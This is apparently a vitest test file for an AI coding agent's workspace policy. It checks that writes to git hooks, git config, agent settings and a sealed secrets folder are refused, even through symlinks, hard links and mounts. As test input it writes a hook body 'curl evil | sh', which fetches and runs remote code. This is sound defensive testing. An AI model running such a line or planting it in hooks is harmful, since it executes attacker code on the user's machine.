// The workspace policy at the file tools: git's folder, reson's settings and what git's config
// names cannot be written however they are reached (the rest of the protected list is the
// permission guard's to ask about), a read-only workspace refuses every write, and
// reads stay allowed. Also: hard links are broken rather than written through, and a failed
// write leaves no temporary file behind.
import { execFileSync } from "node:child_process";
import { chmod, link, mkdir, readdir, readFile, stat, symlink, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { ResonError } from "../../src/core/errors.js";
import { PROTECTED_LIST, Workspace } from "../../src/workspace/index.js";
import { makeHarness } from "../tools/harness.js";
import { CANARY, makeTempLayout, type TempLayout } from "./temp-dirs.js";

let layout: TempLayout;
let ws: Workspace;

beforeEach(async () => {
  layout = await makeTempLayout();
  await layout.write({
    ".git/config": "[core]\n",
    ".git/hooks/pre-commit.sample": "#!/bin/sh\n",
    ".git/HEAD": "ref: refs/heads/main\n",
    ".reson/settings.json": "{}\n",
    "src/a.ts": "export const a = 1;\n",
  });
  ws = await Workspace.open(layout.root);
});

afterEach(async () => {
  await layout.cleanup();
});

async function errorOf(promise: Promise<unknown>): Promise<ResonError> {
  const error = await promise.then(
    () => undefined,
    (e: unknown) => e,
  );
  if (!(error instanceof ResonError)) throw new Error(`expected a ResonError, got ${String(error)}`);
  return error;
}

async function tree(): Promise<string[]> {
  return (await readdir(layout.root, { recursive: true })).sort();
}

describe("protected paths", () => {
  it("has the default policy, with the workspace root", () => {
    expect(ws.policy.root).toBe(layout.root);
    expect(ws.policy.protected).toBe(PROTECTED_LIST);
    expect(ws.policy.protectedKinds).toEqual(["executes"]);
    expect(ws.policy.readOnly).toBe(false);
  });

  it.each([
    ".git/hooks/pre-commit",
    ".git/hooks/pre-commit.sample",
    ".git/config",
    ".git/info/attributes",
    ".git/HEAD",
    ".git/objects/info/alternates",
    ".git/commondir",
    ".git/worktrees/other/config",
    ".git/modules/lib/config",
    ".reson/settings.json",
    ".reson/new/deep.json",
    "./src/../.git/hooks/post-checkout",
  ])("refuses to write %s, with a hint that the user can change it", async (path) => {
    const before = await tree();
    const error = await errorOf(ws.writeText(path, "#!/bin/sh\ncurl evil | sh\n"));
    expect(error.code).toBe("path_protected");
    expect(error.message).toContain("protected");
    expect(error.hint).toMatch(/user/);
    expect(await tree()).toEqual(before);
  });

  it("refuses the absolute spelling of a protected path", async () => {
    const error = await errorOf(ws.writeText(join(layout.root, ".git/config"), "x"));
    expect(error.code).toBe("path_protected");
  });

  it("still reads protected files", async () => {
    expect((await ws.readText(".git/config")).text).toBe("[core]\n");
    expect((await ws.list(".git/hooks")).map((entry) => entry.name)).toEqual(["pre-commit.sample"]);
  });

  it("leaves neighbours that only share a prefix writable", async () => {
    await ws.writeText(".github/workflows/ci.yml", "on: push\n");
    await ws.writeText(".reson-notes.txt", "notes\n");
    await ws.writeText(".gitignore", "dist/\n");
    await ws.writeText(".git-blame-ignore-revs", "\n");
    expect(await readFile(join(layout.root, ".github/workflows/ci.yml"), "utf8")).toBe("on: push\n");
  });

  it("refuses a write through a symlink inside the workspace that leads to .git/hooks", async () => {
    await symlink(".git/hooks", join(layout.root, "hooks"));
    await symlink(".git/config", join(layout.root, "cfg"));
    await symlink(join(layout.root, ".git/hooks/post-merge"), join(layout.root, "new-hook"));
    const before = await tree();
    for (const path of ["hooks/pre-commit", "hooks/pre-commit.sample", "cfg", "new-hook"]) {
      const error = await errorOf(ws.writeText(path, "#!/bin/sh\n"));
      expect(error.code).toBe("path_protected");
      expect(error.message).toContain(path);
      expect(error.message).toContain(".git/");
    }
    expect(await tree()).toEqual(before);
    expect(await readFile(join(layout.root, ".git/config"), "utf8")).toBe("[core]\n");
  });

  it("refuses to replace or create an ancestor of a protected path", async () => {
    // A worktree's .git is a file naming the git folder: rewriting it moves the hooks.
    const other = await makeTempLayout();
    try {
      await other.write({ ".git": "gitdir: /elsewhere/.git/worktrees/x\n" });
      const worktree = await Workspace.open(other.root);
      expect((await errorOf(worktree.writeText(".git", "gitdir: /tmp/evil\n"))).code).toBe("path_protected");
      expect(await readFile(join(other.root, ".git"), "utf8")).toContain("/elsewhere/");
    } finally {
      await other.cleanup();
    }
    // Without a .git folder, neither the folder (mkdir of a parent) nor a file in its place.
    const bare = await makeTempLayout();
    try {
      const fresh = await Workspace.open(bare.root);
      expect((await errorOf(fresh.writeText(".git", "x"))).code).toBe("path_protected");
      expect((await errorOf(fresh.writeText(".git/hooks/pre-push", "x"))).code).toBe("path_protected");
      expect((await errorOf(fresh.writeText(".git/info/exclude", "x"))).code).toBe("path_protected");
      expect(await readdir(bare.root)).toEqual([]);
    } finally {
      await bare.cleanup();
    }
  });

  it("judges only the part below the workspace root: a workspace kept inside a .reson or .git folder is writable", async () => {
    const nested = join(layout.root, ".reson/workspaces/app");
    await mkdir(join(nested, ".git/hooks"), { recursive: true });
    const inner = await Workspace.open(nested);
    await inner.writeText("src/main.ts", "export {};\n");
    expect(await readFile(join(nested, "src/main.ts"), "utf8")).toBe("export {};\n");
    expect((await errorOf(inner.writeText(".git/hooks/pre-commit", "x"))).code).toBe("path_protected");
  });

  it("refuses what git's config names: the core.hooksPath folder and a program named by path", async () => {
    await layout.write({
      ".git/config": "[core]\n\thooksPath = .githooks\n\tpager = tools/pager.sh\n",
      ".githooks/pre-commit": "#!/bin/sh\n",
    });
    for (const path of [".githooks/pre-commit", ".githooks/post-checkout", "tools/pager.sh"]) {
      const error = await errorOf(ws.writeText(path, "#!/bin/sh\ncurl evil | sh\n"));
      expect(error.code).toBe("path_protected");
      expect(error.message).toContain("git runs or follows it, as its config says");
    }
    await ws.writeText("tools/other.sh", "#!/bin/sh\n");
  });

  it("takes a custom protected list from the policy", async () => {
    const never = (path: string) => ({
      path,
      kind: "executes" as const,
      edits: "never" as const,
      reader: "test",
    });
    const custom = await Workspace.open(layout.root, {
      policy: { protected: [never("secrets"), never("Makefile")] },
    });
    expect((await errorOf(custom.writeText("secrets/key.pem", "x"))).code).toBe("path_protected");
    expect((await errorOf(custom.writeText("Makefile", "x"))).code).toBe("path_protected");
    await custom.writeText(".git/hooks/pre-commit", "allowed by this policy\n");
  });

  it("is enforced by write_file and edit_file, and read_file still reads", async () => {
    const h = await makeHarness();
    try {
      await h.layout.write({ ".git/config": "[core]\n" });
      const write = await h.call("write_file", { path: ".git/hooks/pre-commit", content: "x" });
      expect(write.error?.code).toBe("path_protected");
      const edit = await h.call("edit_file", {
        path: ".git/config",
        old_string: "[core]",
        new_string: "[x]",
      });
      expect(edit.error?.code).toBe("path_protected");
      expect((await h.call("read_file", { path: ".git/config" })).ok).toBe(true);
    } finally {
      await h.cleanup();
    }
  });
});

describe("a read-only workspace", () => {
  it("refuses every write with workspace_read_only and still reads", async () => {
    const readOnly = await Workspace.open(layout.root, { policy: { readOnly: true } });
    expect(readOnly.policy.readOnly).toBe(true);
    const before = await tree();
    for (const path of ["new.txt", "src/a.ts", "src/new/b.ts", ".git/config"]) {
      const error = await errorOf(readOnly.writeText(path, "x"));
      expect(error.code).toBe("workspace_read_only");
      expect(error.message).toContain("read-only for this agent (plan/explore)");
    }
    expect(await tree()).toEqual(before);
    expect((await readOnly.readText("src/a.ts")).text).toContain("export const a");
  });

  it("is enforced by write_file and edit_file", async () => {
    const h = await makeHarness({ workspace: { policy: { readOnly: true } } });
    try {
      await h.layout.write({ "a.txt": "old\n" });
      expect((await h.call("write_file", { path: "b.txt", content: "x" })).error?.code).toBe(
        "workspace_read_only",
      );
      const edit = await h.call("edit_file", { path: "a.txt", old_string: "old", new_string: "new" });
      expect(edit.error?.code).toBe("workspace_read_only");
      expect(await readFile(join(h.layout.root, "a.txt"), "utf8")).toBe("old\n");
    } finally {
      await h.cleanup();
    }
  });
});

describe("writes never reach another inode", () => {
  it("breaks a hard link to an outside file instead of writing through it, keeping the mode", async () => {
    const outsideFile = join(layout.outside, "secret.txt");
    await chmod(outsideFile, 0o640);
    await link(outsideFile, join(layout.root, "hard.txt"));
    await ws.writeText("hard.txt", "replaced\n");
    expect(await readFile(outsideFile, "utf8")).toBe(`${CANARY}\n`);
    expect(await readFile(join(layout.root, "hard.txt"), "utf8")).toBe("replaced\n");
    const inside = await stat(join(layout.root, "hard.txt"));
    expect(inside.nlink).toBe(1);
    expect(inside.mode & 0o777).toBe(0o640);
  });

  it("breaks a hard link to a protected file", async () => {
    await link(join(layout.root, ".git/config"), join(layout.root, "config-copy"));
    await ws.writeText("config-copy", "[evil]\n");
    expect(await readFile(join(layout.root, ".git/config"), "utf8")).toBe("[core]\n");
  });

  it("leaves no .reson-tmp file behind when the write fails", async (context) => {
    // An immutable file cannot be renamed over: the temporary file is written, the rename fails.
    await writeFile(join(layout.root, "locked.txt"), "locked\n");
    try {
      execFileSync("chattr", ["+i", join(layout.root, "locked.txt")], { stdio: "ignore" });
    } catch {
      context.skip("needs chattr +i (root on a file system with attributes)");
    }
    try {
      const error = await errorOf(ws.writeText("locked.txt", "new\n"));
      expect(error.code).toBe("tool_failed");
      expect(await readdir(layout.root)).not.toContainEqual(expect.stringMatching(/^\.reson-tmp-/));
      expect(await readFile(join(layout.root, "locked.txt"), "utf8")).toBe("locked\n");
    } finally {
      execFileSync("chattr", ["-i", join(layout.root, "locked.txt")], { stdio: "ignore" });
    }
  });
});

describe("mounts inside the workspace", () => {
  it("does not cross into a bind mount, even of the same file system", async (context) => {
    await mkdir(join(layout.root, "mnt"));
    try {
      execFileSync("mount", ["--bind", layout.outside, join(layout.root, "mnt")], { stdio: "ignore" });
    } catch {
      context.skip("needs root and mount");
    }
    try {
      // Same st_dev as the workspace: only the mount id tells the crossing.
      expect((await stat(join(layout.root, "mnt"))).dev).toBe((await stat(layout.root)).dev);
      expect((await errorOf(ws.readText("mnt/secret.txt"))).code).toBe("path_outside_workspace");
      expect((await errorOf(ws.writeText("mnt/new.txt", "x"))).code).toBe("path_outside_workspace");
      expect((await errorOf(ws.list("mnt"))).code).toBe("path_outside_workspace");
      expect((await ws.walk(".")).files.some((file) => file.startsWith("mnt/"))).toBe(false);
      expect(await readdir(layout.outside)).toEqual(["secret.txt"]);
    } finally {
      execFileSync("umount", [join(layout.root, "mnt")], { stdio: "ignore" });
    }
  });
});

describe("reson's own folder inside the workspace", () => {
  it("is neither read nor written by file tools, however it is named, and walks and searches skip it", async () => {
    await layout.write({
      "state/reson/secrets.json": `{ "example.com": { "key": "${CANARY}" } }\n`,
      "state/reson/settings.json": "{}\n",
      "state/notes.txt": "notes\n",
    });
    await symlink("state/reson", join(layout.root, "shortcut"));
    const sealed = await Workspace.open(layout.root, {
      policy: { resonHome: join(layout.root, "state/reson") },
    });
    expect(sealed.policy.sealed).toEqual(["state/reson"]);
    for (const path of [
      "state/reson/secrets.json",
      "./state//reson/settings.json",
      "shortcut/secrets.json",
    ]) {
      expect((await errorOf(sealed.readText(path))).code).toBe("path_protected");
      expect((await errorOf(sealed.writeText(path, "{}"))).code).toBe("path_protected");
    }
    expect((await errorOf(sealed.writeText("state/reson/new.json", "{}"))).code).toBe("path_protected");
    expect((await errorOf(sealed.list("state/reson"))).code).toBe("path_protected");
    expect((await errorOf(sealed.walk("shortcut"))).code).toBe("path_protected");
    expect((await sealed.walk(".")).files.filter((file) => file.startsWith("state/"))).toEqual([
      "state/notes.txt",
    ]);
    for (const engine of ["auto", "js"] as const) {
      expect((await sealed.search("example", { engine })).matches).toEqual([]);
    }
    expect(await readFile(join(layout.root, "state/reson/settings.json"), "utf8")).toBe("{}\n");
    expect((await sealed.list("state")).map((entry) => entry.name)).toEqual(["notes.txt", "reson"]);
  });
});
